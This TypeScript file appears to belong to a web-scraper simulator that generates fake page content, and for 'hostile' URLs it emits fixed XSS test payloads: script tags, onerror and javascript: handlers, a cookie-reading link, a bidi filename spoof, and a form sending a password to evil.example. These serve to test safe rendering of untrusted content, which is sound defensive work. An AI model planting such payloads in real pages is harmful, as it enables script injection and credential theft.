import "server-only";
import { createRng, hashSeed, hashUnit } from "./rng";

export type PageContent = { markdown: string | null; html: string | null; links: string[] | null };

const WORDS = (
  "scraper platform result content article product price review shipping catalogue search " +
  "update release customer support account order invoice service status region market report " +
  "analysis summary detail feature guide question answer page section table figure note"
).split(" ");

const escapeHtml = (s: string) =>
  s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/'/g, "&#39;");

/** Every URL containing "hostile" is hostile, plus a stable per-URL share of the others. */
export const isHostile = (seed: number, url: string, share: number): boolean =>
  url.toLowerCase().includes("hostile") || hashUnit(seed, "hostile:" + url) < share;

function titleOf(url: string): string {
  try {
    const u = new URL(url);
    const last = u.pathname.split("/").filter(Boolean).pop();
    // A bare number ("/a/404") reads "Item 404": a title of "404" alone is what a soft 404 looks like.
    if (last && /^\d+$/.test(last)) return `Item ${last}`;
    return last ? decodeURIComponent(last).replace(/[-_]+/g, " ") : u.hostname;
  } catch {
    return url;
  }
}

/** Links a page "contains": same-origin children, stable per URL. */
export function linksOf(seed: number, url: string, count: number): string[] {
  const rng = createRng(hashSeed(seed, "links:" + url));
  let base: URL;
  try {
    base = new URL(url);
  } catch {
    return [];
  }
  const path = base.pathname.replace(/\/+$/, "");
  return Array.from({ length: count }, () => `${base.origin}${path}/${rng.pick(WORDS)}-${rng.int(1, 999)}`);
}

function plain(
  seed: number,
  url: string,
  version: number,
  bodyBytes?: readonly [number, number],
): { title: string; paragraphs: string[]; boilerplate: number } {
  // Version 0 is the page as it always was; each later version (contentChangeRate) rewrites one
  // paragraph of the one before, as real pages change (a price, a date, a line of news), so a diff of
  // two versions shows a small change in a page that is otherwise the same.
  const rng = createRng(hashSeed(seed, "content:" + url));
  const paragraph = (r: typeof rng) => {
    const words = Array.from({ length: r.int(12, 30) }, () => r.pick(WORDS));
    const text = words.join(" ");
    return text[0].toUpperCase() + text.slice(1) + ".";
  };
  const paragraphs = Array.from({ length: rng.int(2, 4) }, () => paragraph(rng));
  // bodyBytes (a knob): paragraphs until the markdown reaches a size drawn from [min, max] (per URL),
  // and the html about three times that (markup and navigation around the same text).
  const target = bodyBytes && bodyBytes[1] > 0 ? rng.range(bodyBytes) : 0;
  for (let size = paragraphs.reduce((n, p) => n + p.length + 2, 0); size < target;) {
    const p = paragraph(rng);
    paragraphs.push(p);
    size += p.length + 2;
  }
  for (let v = 1; v <= version; v++) {
    const change = createRng(hashSeed(seed, `content:${url}#v${v}`));
    paragraphs[change.int(0, paragraphs.length - 1)] = paragraph(change);
  }
  return { title: titleOf(url), paragraphs, boilerplate: target > 0 ? 2 * target : 0 };
}

/** Site navigation of about `bytes` bytes: the same on every page of a host, as real sites' chrome is. */
function navigation(seed: number, url: string, bytes: number): string {
  if (bytes <= 0) return "";
  let origin = url;
  try {
    origin = new URL(url).origin;
  } catch {}
  const rng = createRng(hashSeed(seed, "nav:" + origin));
  const items: string[] = [];
  for (let size = 0; size < bytes;) {
    const word = rng.pick(WORDS);
    const item = `<li class="nav-item nav-${word}"><a class="nav-link" href="${escapeHtml(origin)}/${word}/${rng.int(1, 9999)}" title="${word} section">${word}</a></li>`;
    items.push(item);
    size += item.length + 1;
  }
  return `<nav class="site-nav"><ul>\n${items.join("\n")}\n</ul></nav>`;
}

// Everything a careless renderer turns into script execution, layout breakage or a spoofed view.
const LONG_LINE = "A".repeat(20_000);
const hostileHtml = (title: string) =>
  [
    `<h1>${title}</h1>`,
    `<script>alert(1)</script>`,
    `<img src=x onerror=alert(1)>`,
    `<a href="javascript:alert(document.cookie)">click me</a>`,
    `<svg onload=alert(1)><circle r="1"/></svg>`,
    `<iframe src="javascript:alert(1)"></iframe>`,
    `<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">hover</div>`,
    `<form action="https://evil.example/steal"><input name="password"></form>`,
    `"><script>alert('attribute breakout')</script>`,
    `<p>\u202Etxt.exe (bidi override)</p>`,
    `<p>${LONG_LINE}</p>`,
  ].join("\n");

const hostileMarkdown = (title: string) =>
  [
    `# ${title} <script>alert(1)</script>`,
    `[click me](javascript:alert(document.cookie))`,
    `![pixel](https://evil.example/x.png" onerror="alert(1))`,
    `<img src=x onerror=alert(1)>`,
    `<iframe src="javascript:alert(1)"></iframe>`,
    `\u202Etxt.exe (bidi override)`,
    LONG_LINE,
  ].join("\n\n");

export function pageContent(opts: {
  seed: number;
  url: string;
  formats: readonly string[];
  extractLinks: boolean;
  hostileShare: number;
  /** The content version of this serving (lib/simulator/content-versions.ts); 0 when not tracked. */
  version?: number;
  /** [min, max] of the markdown's size in bytes (the html about three times it); [0, 0]: as generated. */
  bodyBytes?: readonly [number, number];
}): PageContent {
  const { seed, url, formats } = opts;
  const hostile = isHostile(seed, url, opts.hostileShare);
  const { title, paragraphs: body, boilerplate } = plain(seed, url, opts.version ?? 0, opts.bodyBytes);
  // Every URL containing "volatile" carries the moment it was served: a timestamp that changes on every
  // fetch, which a collection's ignorePatterns must remove for the page to count as unchanged.
  const paragraphs = url.includes("volatile") ? [...body, `Fetched at ${new Date().toISOString()}`] : body;
  const links = linksOf(seed, url, 3);
  // A hostile page is the same attack every time; a later version still reads differently.
  const revised = (opts.version ?? 0) > 0 ? ` (revision ${opts.version})` : "";
  const markdown = hostile
    ? hostileMarkdown(title + revised)
    : [`# ${title}`, ...paragraphs, links.map((l) => `- [${titleOf(l)}](${l})`).join("\n")].join("\n\n");
  const html = hostile
    ? hostileHtml(title + revised)
    : [
        `<html><head><title>${escapeHtml(title)}</title></head><body>`,
        ...(boilerplate > 0 ? [navigation(seed, url, boilerplate)] : []),
        `<h1>${escapeHtml(title)}</h1>`,
        ...paragraphs.map((p) => `<p>${escapeHtml(p)}</p>`),
        `<ul>${links.map((l) => `<li><a href="${escapeHtml(l)}">${escapeHtml(titleOf(l))}</a></li>`).join("")}</ul>`,
        `</body></html>`,
      ].join("\n");
  return {
    markdown: formats.includes("markdown") ? markdown : null,
    html: formats.includes("html") ? html : null,
    links: opts.extractLinks ? links : null,
  };
}
